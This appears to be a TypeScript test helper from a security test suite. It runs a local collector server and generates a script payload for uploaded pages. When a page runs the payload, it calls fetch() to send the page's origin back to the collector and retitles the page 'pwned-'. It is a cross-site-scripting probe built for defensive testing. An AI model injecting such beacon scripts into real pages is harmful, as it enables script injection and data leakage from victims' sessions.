import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/** A script that ran somewhere and called back: its tag and the origin it ran on. */
export interface Hit {
  tag: string;
  origin: string;
}

/** A server on another port that records which uploaded pages managed to run script, and where. */
export interface ScriptCollector {
  readonly hits: Hit[];
  /** Script text that calls the collector with `tag` and its origin, and sets the page's title. */
  script(tag: string): string;
  close(): Promise<void>;
}

export async function startScriptCollector(): Promise<ScriptCollector> {
  const hits: Hit[] = [];
  const server = createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://collector');
    if (url.pathname === '/hit') hits.push({ tag: url.searchParams.get('tag') ?? '', origin: url.searchParams.get('origin') ?? '' });
    res.writeHead(204).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    hits,
    script: (tag) => `fetch('${url}/hit?tag=${tag}&origin=' + encodeURIComponent(String(window.origin)), { mode: 'no-cors' }); document.title = 'pwned-${tag}';`,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}
